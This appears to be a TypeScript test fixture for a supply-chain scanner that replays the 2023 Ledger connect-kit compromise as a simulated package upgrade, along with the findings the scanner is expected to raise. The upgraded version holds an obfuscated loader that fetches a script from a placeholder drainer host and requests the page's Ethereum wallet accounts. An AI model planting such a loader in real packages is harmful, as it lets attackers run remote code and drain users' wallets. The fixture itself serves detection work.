import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const kit = `${compiledQueue}
/** The dialog that asks which wallet to connect. */
function renderConnectKit(root, wallets) {
    root.replaceChildren(...wallets.map(({ name, open }) => {
        const button = root.ownerDocument.createElement("button");
        button.textContent = name;
        button.addEventListener("click", () => open());
        return button;
    }));
}
exports.renderConnectKit = renderConnectKit;
`

/** Loads the rest from elsewhere, and asks the page's wallet for its accounts. */
const drainer = obfuscated(
  '(function(){var $script=document[«createElement»](«script»);$script[«src»]=«https://cdn.drain.example/npm/kit.js»;' +
    'document[«head»][«appendChild»]($script);$script[«onload»]=async function(){if(!window[«ethereum»])return;' +
    'const $accounts=await window[«ethereum»][«request»]({method:«eth_requestAccounts»});console[«log»]($accounts[«length»]);};}());',
)

const inIndex = { file: 'dist/umd/index.js', line: /_0x/ } as const

export const replay: Replay = replayUpgrade({
  description:
    'A former employee’s account, phished, released three versions of Ledger’s connect kit within hours. They loaded a drainer from a ' +
    'content network into every page that used the kit.',
  date: '2023-12-14',
  name: '@ledgerhq/connect-kit',
  from: ['1.1.4', { manifest: { main: 'dist/umd/index.js' }, files: { 'dist/umd/index.js': kit } }],
  to: ['1.1.5', { manifest: { main: 'dist/umd/index.js' }, files: { 'dist/umd/index.js': `${kit}${drainer}\n` } }],
  findings: [
    ['code-hidden', 'critical', inIndex],
    ['combined-risk', 'critical', inIndex],
    ['remote-code-run', 'critical', inIndex],
    ['capability-added', 'high', inIndex],
    ['code-obfuscated', 'high', inIndex],
    ['network-host-added', 'medium', inIndex],
  ],
})
